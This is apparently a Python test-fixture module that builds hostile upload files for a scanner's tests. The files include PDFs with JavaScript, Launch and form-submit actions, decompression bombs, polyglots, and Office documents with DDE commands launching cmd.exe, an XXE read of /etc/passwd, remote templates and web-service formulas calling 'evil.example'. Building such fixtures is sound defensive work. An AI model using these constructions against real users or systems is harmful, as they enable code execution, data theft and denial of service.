"""Hostile files, made here one by one: what an attacker sends in."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.portal.files import samples

#: The agreed harmless test string of virus scanners, in two halves so that this file is not found itself.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = b"SECRET-BEHIND-THE-END"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def changed_pdf(change: Callable[[pikepdf.Pdf], None], *, pages: int = 1) -> bytes:
    target = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        change(document)
        document.save(target)
    return target.getvalue()


def script(text: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def pdf_open_action() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(script())

    return changed_pdf(change)


def pdf_named_script() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        tree = Dictionary(Names=Array([String("a"), document.make_indirect(script())]))
        document.Root.Names = Dictionary(JavaScript=tree)

    return changed_pdf(change)


def pdf_page_action() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = Dictionary(O=script())

    return changed_pdf(change)


def pdf_launch() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, F=String("cmd.exe")))
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=action)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return changed_pdf(change)


def pdf_hidden_next_action() -> bytes:
    """A harmless first action whose /Next is the script, in an outline entry."""

    def change(document: pikepdf.Pdf) -> None:
        first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([script()]))
        entry = document.make_indirect(Dictionary(Title=String("目录"), A=first))
        outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=entry, Last=entry, Count=1))
        entry.Parent = outlines
        document.Root.Outlines = outlines

    return changed_pdf(change)


def pdf_disguised_script() -> bytes:
    """Actions that call themselves something else: a structure element, a font; their kind behind a reference."""

    def change(document: pikepdf.Pdf) -> None:
        element = Dictionary(
            Type=Name.StructElem, S=document.make_indirect(Name.JavaScript), JS=String("x"), P=document.Root, K=0
        )
        first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=element)
        entry = document.make_indirect(Dictionary(Title=String("目录"), A=first))
        document.Root.Outlines = document.make_indirect(Dictionary(First=entry, Last=entry, Count=1))
        document.pages[0].obj.AA = Dictionary(Type=Name.Font, O=script())

    return changed_pdf(change)


def pdf_deep_script() -> bytes:
    """At the end of a very long array, inside arrays."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.PieceInfo = Dictionary(X=Array([Array([script(), *([0] * 50_000)])]))

    return changed_pdf(change)


def pdf_disguised_file() -> bytes:
    """A file specification that says it is a font."""

    def change(document: pikepdf.Pdf) -> None:
        held = document.make_indirect(Stream(document, b"MZ" + SECRET))
        spec = Dictionary(Type=Name.Font, F=String("a.exe"), EF=Dictionary(Type=Name.Font, UF=held))
        document.pages[0].obj.AF = Array([document.make_indirect(spec)])

    return changed_pdf(change)


def pdf_odd_names() -> bytes:
    """Harmless: fonts and pictures may be called anything, also /AA, /EF and /JS."""

    def change(document: pikepdf.Pdf) -> None:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        held = document.make_indirect(font)
        picture = document.make_indirect(
            Stream(document, b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        )
        document.pages[0].obj.Resources = Dictionary(
            Font=Dictionary(AA=held, EF=held, JS=held), XObject=Dictionary(JS=picture)
        )
        document.pages[0].obj.Contents = document.make_indirect(
            Stream(document, b"BT /AA 9 Tf (a) Tj /EF 9 Tf (b) Tj ET /JS Do")
        )

    return changed_pdf(change)


def pdf_submit_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=Array([0, 0, 9, 9]), A=action
        )
        held = document.make_indirect(field)
        document.pages[0].obj.Annots = Array([held])
        document.Root.AcroForm = Dictionary(Fields=Array([held]))

    return changed_pdf(change)


def pdf_embedded_file() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["virus.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + SECRET, filename="virus.exe")

    return changed_pdf(change)


def pdf_attached_note() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        held = document.make_indirect(Stream(document, b"MZ" + SECRET))
        spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=held))
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return changed_pdf(change)


def pdf_rich_media() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        held = document.make_indirect(Stream(document, b"FWS" + SECRET))
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([0, 0, 9, 9]),
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), held]))),
        )
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return changed_pdf(change)


def pdf_xfa() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        held = document.make_indirect(Stream(document, b"<xdp>" + SECRET + b"</xdp>"))
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), held]))

    return changed_pdf(change)


def pdf_dynamic_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_indirect(Stream(document, b"<xdp/>")))
        document.Root.NeedsRendering = True

    return changed_pdf(change)


def pdf_remote_link() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        notes = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
            for action in (
                Dictionary(S=Name.URI, URI=String("http://evil.example/")),
                Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share"), D=Array([0, Name.Fit])),
            )
        ]
        document.pages[0].obj.Annots = Array([document.make_indirect(note) for note in notes])

    return changed_pdf(change)


def pdf_bomb() -> bytes:
    """A stream of 300 MB in 300 KB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()

    def change(document: pikepdf.Pdf) -> None:
        stream = Stream(document, b"")
        stream.write(packed, filter=Name.FlateDecode)
        document.pages[0].obj.Contents = document.make_indirect(stream)

    target = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(target, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return target.getvalue()


def pdf_double_bomb() -> bytes:
    """Packed twice, so that looking at the outer packing alone tells nothing; without a table, as readers allow."""
    packed = zlib.compress(zlib.compress(bytes(10_000_000), 9), 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(packed), packed),
    ]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def pdf_with_empty_password() -> bytes:
    """Opens without asking, but is encrypted: its owner forbade something."""
    target = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(target, encryption=pikepdf.Encryption(owner="x", user=""))
    return target.getvalue()


def pdf_broken_table() -> bytes:
    """The cross-reference table points anywhere; readers repair that in different ways."""
    return samples.pdf().replace(b"startxref\n", b"startxref\n9").replace(b"xref\n0", b"xreg\n0")


def pdf_and_zip() -> bytes:
    """One file that is a PDF in front and a package behind."""
    return pdf_open_action() + samples.office("word/document.xml", ("secret.txt", SECRET))


def pdf_and_html() -> bytes:
    return samples.pdf() + b"<html><script>" + SECRET + b"</script></html>"


def jpeg_with_location() -> bytes:
    image = Image.new("RGB", (40, 20), "white")
    exif = Image.Exif()
    exif[0x010F] = "CAMERA-OF-A-CITIZEN"
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (39.0, 19.0, 53.0)
    target = io.BytesIO()
    image.save(target, "JPEG", exif=exif, comment=b"A-COMMENT")
    return target.getvalue()


def jpeg_and_zip() -> bytes:
    return jpeg_with_location() + samples.office("word/document.xml", ("secret.txt", SECRET))


def png_and_script() -> bytes:
    """A script in a text chunk, and one behind the end."""
    content = samples.image()
    text = b"Comment\0<script>" + SECRET + b"</script>"
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text + struct.pack(">I", zlib.crc32(b"tEXt" + text))
    return content[:33] + chunk + content[33:] + b"<?php " + SECRET + EICAR


def png_pixel_bomb() -> bytes:
    """30,000 × 30,000 pixels in some hundred kilobytes."""
    side = 30_000
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes((side // 8 + 1) * 100)) for _ in range(side // 100)) + packer.flush()
    chunks = [(b"IHDR", header), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


def relations(*lines: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(lines)
        + "</Relationships>"
    ).encode()


def relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}"{mode}/>'


def docx(*more: tuple[str, bytes]) -> bytes:
    return samples.office("word/document.xml", *more)


def docx_template() -> bytes:
    return docx(("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "http://evil.example/a.dotm"))))


def docx_remote_image() -> bytes:
    return docx(("word/_rels/document.xml.rels", relations(relation("image", "\\\\evil.example\\a.png"))))


def docx_hyperlink() -> bytes:
    return docx(
        ("word/_rels/document.xml.rels", relations(relation("hyperlink", "http://evil.example/?a=1&amp;b=2")))
    )


def word_body(inner: str) -> bytes:
    return f'<w:document xmlns:w="{W}"><w:body><w:p>{inner}</w:p></w:body></w:document>'.encode()


def with_body(inner: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", word_body(inner))
    return target.getvalue()


def docx_dde() -> bytes:
    """The field's name is spread over two runs."""
    return with_body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def docx_made_field() -> bytes:
    """The field's name is made by another field."""
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{end}"
    return with_body(f'{begin}{inner}<w:r><w:instrText> cmd "/k calc"</w:instrText></w:r>{end}')


def docx_entities() -> bytes:
    return docx(
        (
            "word/header1.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        )
    )


def docx_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return docx(("word/header1.xml", f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&l9;</x>'.encode()))


def docx_macros() -> bytes:
    return docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))


def docx_macro_type() -> bytes:
    """A docm whose project has another name."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
        archive.writestr(
            "[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
        )
        archive.writestr("word/document.xml", "<document/>")
    return target.getvalue()


def docx_lying_sizes() -> bytes:
    """The directory says one byte, the part has sixty million."""
    content = bytearray(docx(("word/bomb.xml", b"0" * 60_000_000)))
    place = content.rindex(b"word/bomb.xml") - 46
    content[place + 24 : place + 28] = struct.pack("<I", 1)
    return bytes(content)


def docx_other_main_part() -> bytes:
    """The document proper under a name that does not look like one."""
    field = '<w:r><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:r>'
    return docx(("word/evil.dat", word_body(field)))


def docx_other_main_part_in_utf_16() -> bytes:
    field = '<w:r><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:r>'
    return docx(("word/evil.dat", word_body(field).decode().encode("utf-16")))


def docx_vml_source() -> bytes:
    return docx(("word/vmlDrawing1.vml", b'<xml><v:imagedata xmlns:v="urn:v" src="http://evil.example/a.png"/></xml>'))


def docx_scheme_without_mode() -> bytes:
    """Claims to be inside, and is not."""
    line = relation("image", "file://///evil.example/a.png", external=False)
    return docx(("word/_rels/document.xml.rels", relations(line)))


def docx_alternative_chunk() -> bytes:
    return docx(("word/_rels/document.xml.rels", relations(relation("aFChunk", "/word/a.mht", external=False))))


def docx_strange_part() -> bytes:
    return docx(("word/media/image1.png", b"\x4c\0\0\0\x01\x14\x02\0shortcut"))


def xlsx(*more: tuple[str, bytes]) -> bytes:
    return samples.office("xl/workbook.xml", *more)


def xlsx_external_link() -> bytes:
    return xlsx(("xl/externalLinks/externalLink1.xml", b"<externalLink/>"))


def xlsx_web_service() -> bytes:
    return xlsx(("xl/worksheets/sheet1.xml", b'<worksheet><c><f>WEBSERVICE("http://evil.example/")</f></c></worksheet>'))


def xlsx_command() -> bytes:
    return xlsx(("xl/worksheets/sheet1.xml", b"<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"))


def many_entries() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for number in range(12_000):
            archive.writestr(f"word/{number}", "")
    return target.getvalue()
